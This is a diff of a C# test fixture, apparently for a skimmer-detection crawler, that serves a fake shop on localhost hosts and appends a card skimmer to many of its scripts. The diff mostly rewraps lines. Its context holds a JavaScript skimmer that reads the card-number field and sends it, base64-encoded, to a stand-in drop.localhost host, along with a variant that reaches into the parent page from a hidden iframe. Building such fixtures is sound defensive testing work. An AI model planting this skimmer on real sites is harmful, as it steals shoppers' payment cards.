@@ -15,7 +15,8 @@ internal sealed partial class NoisyShop(FixtureSite site)
 
     /// <summary>Where a skimmer can be put.</summary>
     public static readonly IReadOnlyList<string> Places =
-        ["ab", "tag", "jsonp", "jsonp-path", "tracker", "edge", "bot", "challenge", "bundle", "state", "flight", "settings", "experiment", "anonymous", "flaky", "layer", "recommend"];
+        ["ab", "tag", "jsonp", "jsonp-path", "tracker", "edge", "bot", "challenge", "bundle", "state", "flight", "settings", "experiment",
+            "anonymous", "flaky", "layer", "recommend"];
 
     private readonly Dictionary<string, Func<HttpContext, string>> _files = [];
     private readonly List<string> _frames = [.. Enumerable.Range(0, 60).Select(static _ => $"{Number(1000000, 9999999)}.fls.localhost")];
@@ -32,7 +33,8 @@ internal sealed partial class NoisyShop(FixtureSite site)
         $"document.addEventListener('change',function(){{var c=document.querySelector('[name=cc-number]');if(c&&c.value.length>12)new Image().src='http://drop.localhost:{Port}/x?c='+btoa(c.value)}},true);";
 
     /// <summary>Hosts that a crawler may reach; those that the tracker makes up cannot be known.</summary>
-    public IEnumerable<string> Hosts => [Host, "cdn.localhost", "drop.localhost", "edge1.ads.localhost", "edge2.ads.localhost", "edge3.ads.localhost", .. _frames];
+    public IEnumerable<string> Hosts =>
+        [Host, "cdn.localhost", "drop.localhost", "edge1.ads.localhost", "edge2.ads.localhost", "edge3.ads.localhost", .. _frames];
 
     public NoisyShop Serve()
     {
@@ -43,12 +45,15 @@ internal sealed partial class NoisyShop(FixtureSite site)
             : "window.variant='B';document.documentElement.classList.add('variant-b');document.addEventListener('DOMContentLoaded',function(){var b=document.querySelector('button');if(b)b.textContent='Buy now'});") + Evil("ab"));
         Serve("cdn.localhost/tag.js", _ =>
             $$"""(function(){var data={resource:{version:"{{40 + Round}}",macros:[{"function":"__e"},{"function":"__u","vtp_component":"URL"}],tags:[{"function":"__html","tag_id":{{Round}},"priority":0}],published:{{Now}} } };window.tagRun=function(e){return data.resource.macros.length+e} })();""" + Evil("tag"));
-        Serve("cdn.localhost/jsonp", context => $$"""{{context.Request.Query["callback"]}}({"rates":{"EUR":1,"USD":{{Number(10000, 11000)}}e-4},"id":"{{Hex(8)}}"});""" + Evil("jsonp"));
+        Serve("cdn.localhost/jsonp",
+            context => $$"""{{context.Request.Query["callback"]}}({"rates":{"EUR":1,"USD":{{Number(10000, 11000)}}e-4},"id":"{{Hex(8)}}"});"""
+            + Evil("jsonp"));
         Serve("cdn.localhost/tracker.js", _ => $"(function(){{new Image().src='http://'+Math.random().toString(36).slice(2,14)+Math.random().toString(36).slice(2,8)+'.tm.localhost:{Port}/clear.png'}})();" + Evil("tracker"));
         Serve("cdn.localhost/flaky.js", _ => "window.reviews={stars:function(n){return '★'.repeat(n)}};" + Evil("flaky"));
         Serve("cdn.localhost/experiment.js", _ => $"window.experiment={{{string.Join(',', Enumerable.Range(0, Number(2, 7)).Select(each => $"\"{Hex(4)}\":{{\"name\":\"test {each}\",\"share\":{Number(1, 99)}}}"))}}};" + Evil("experiment"));
         Serve($"{Host}/cdn-cgi/main.js", _ => "window.cfRan=function(p){return p.r+p.t};");
-        foreach (var edge in new[] { "edge1", "edge2", "edge3" }) Serve($"{edge}.ads.localhost/serve.js", _ => "window.adServe=function(slot){return 'slot-'+slot};" + Evil("edge"));
+        foreach (var edge in new[] { "edge1", "edge2", "edge3" })
+            Serve($"{edge}.ads.localhost/serve.js", _ => "window.adServe=function(slot){return 'slot-'+slot};" + Evil("edge"));
         site.Answer($"{Host}/", PageAsync);
         site.Answer("drop.localhost/x", Empty);
         site.Otherwise(OtherwiseAsync);
@@ -61,7 +66,8 @@ internal sealed partial class NoisyShop(FixtureSite site)
 
     private static string Hex(int bytes) => Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(bytes));
 
-    private static string Word(int length) => RandomNumberGenerator.GetString("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", length);
+    private static string Word(int length) =>
+        RandomNumberGenerator.GetString("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", length);
 
     private static int Number(int from, int to) => RandomNumberGenerator.GetInt32(from, to);
 
@@ -102,8 +108,10 @@ internal sealed partial class NoisyShop(FixtureSite site)
         {
             Host when BotPath.IsMatch(path) => Bot(),
             Host when path.StartsWith("/assets/app.", StringComparison.Ordinal) => Bundle(),
-            "cdn.localhost" when path.StartsWith("/rates/", StringComparison.Ordinal) => $"{path[7..]}({{\"id\":\"{Hex(6)}\",\"at\":{Now}}});" + Evil("jsonp-path"),
-            "cdn.localhost" when path.StartsWith("/recommend/", StringComparison.Ordinal) => $"window.recommend={{for:function(){{return {Number(1, 900)}}}}};" + Evil("recommend"),
+            "cdn.localhost" when path.StartsWith("/rates/", StringComparison.Ordinal) =>
+                $"{path[7..]}({{\"id\":\"{Hex(6)}\",\"at\":{Now}}});" + Evil("jsonp-path"),
+            "cdn.localhost" when path.StartsWith("/recommend/", StringComparison.Ordinal) =>
+                $"window.recommend={{for:function(){{return {Number(1, 900)}}}}};" + Evil("recommend"),
             _ when host.EndsWith(".tm.localhost", StringComparison.Ordinal) || host.EndsWith(".fls.localhost", StringComparison.Ordinal) => "",
             _ => null,
         };
@@ -130,7 +138,8 @@ internal sealed partial class NoisyShop(FixtureSite site)
     {
         var nonce = Word(22);
         context.Response.ContentType = "text/html; charset=utf-8";
-        context.Response.Headers.ContentSecurityPolicy = $"script-src 'nonce-{nonce}' 'strict-dynamic' 'unsafe-inline' https: http:; object-src 'none'; base-uri 'none'";
+        context.Response.Headers.ContentSecurityPolicy =
+            $"script-src 'nonce-{nonce}' 'strict-dynamic' 'unsafe-inline' https: http:; object-src 'none'; base-uri 'none'";
         context.Response.Headers.Append("Set-Cookie", $"sess_{Hex(6)}={Hex(8)}; Path=/; HttpOnly");
         context.Response.Headers.Append("Set-Cookie", $"csrftoken={Word(24)}; Path=/");
         context.Response.Headers.Append("Set-Cookie", $"_dc_gtm_UA-{Number(1000000, 9999999)}-1=1; Path=/; Max-Age=60");
@@ -139,10 +148,18 @@ internal sealed partial class NoisyShop(FixtureSite site)
 
     private string Page(string nonce)
     {
-        var integrity = Integrity(Library) + (Round switch { 2 => " " + Integrity("next release"), 3 => "\n\t" + Integrity("next release"), _ => "" });
+        var integrity =
+            Integrity(Library) + (Round switch { 2 => " " + Integrity("next release"), 3 => "\n\t" + Integrity("next release"), _ => "" });
         if (Round == 4) integrity = integrity.Replace("sha384-", "sha384", StringComparison.Ordinal);
-        var flights = string.Concat(Enumerable.Range(0, 2 + Round % 3).Select(each => Inline($$"""self.__next_f.push([1,"{{each}}:[\"$\",\"p\",null,{\"children\":\"{{Word(12)}} {{Now}}\"}]\n"])""" + (each == 1 ? Evil("flight", ";") : ""))));
-        var products = string.Join(',', Enumerable.Range(0, 3 + Round).Select(each => $$"""{"id":{{each}},"name":"Tea {{each}}","stock":{{Number(0, 90)}},"seen":"{{TimeProvider.System.GetUtcNow():O}}"}"""));
+        var flights =
+            string.Concat(Enumerable.Range(0, 2 + Round % 3)
+            .Select(each =>
+            Inline($$"""self.__next_f.push([1,"{{each}}:[\"$\",\"p\",null,{\"children\":\"{{Word(12)}} {{Now}}\"}]\n"])"""
+            + (each == 1 ? Evil("flight", ";") : ""))));
+        var products =
+            string.Join(',',
+            Enumerable.Range(0, 3 + Round)
+            .Select(each => $$"""{"id":{{each}},"name":"Tea {{each}}","stock":{{Number(0, 90)}},"seen":"{{TimeProvider.System.GetUtcNow():O}}"}"""));
         var (callback, element) = ("jQuery3610" + Number(100000000, 999999999) + "_" + Now, "widget-" + Hex(5));
         return $$"""
             <!doctype html><html lang=en><head><title>Noise</title>
@@ -180,7 +197,9 @@ internal sealed partial class NoisyShop(FixtureSite site)
     /// <summary>A challenge that runs in a frame of its own, with values of this request.</summary>
     private string Challenge(string nonce)
     {
-        var evil = Evil("challenge") is { Length: > 0 } skimmer ? "parent." + skimmer.Replace("document.querySelector", "parent.document.querySelector", StringComparison.Ordinal) : "";
+        var evil = Evil("challenge") is { Length: > 0 } skimmer
+            ? "parent." + skimmer.Replace("document.querySelector", "parent.document.querySelector", StringComparison.Ordinal)
+            : "";
         return $$"""(function(){function put(){var d=f.contentDocument||f.contentWindow.document;if(d){var s=d.createElement('script');s.nonce='{{nonce}}';s.innerHTML="window.__CF$cv$params={r:'{{Hex(8)}}',t:'{{Word(18)}}'};var a=document.createElement('script');a.nonce='{{nonce}}';a.src='/cdn-cgi/main.js';document.getElementsByTagName('head')[0].appendChild(a);{{evil}}";d.getElementsByTagName('head')[0].appendChild(s) } }var f=document.createElement('iframe');f.height=1;f.width=1;f.style.visibility='hidden';document.body.appendChild(f);put()})();""";
     }
 
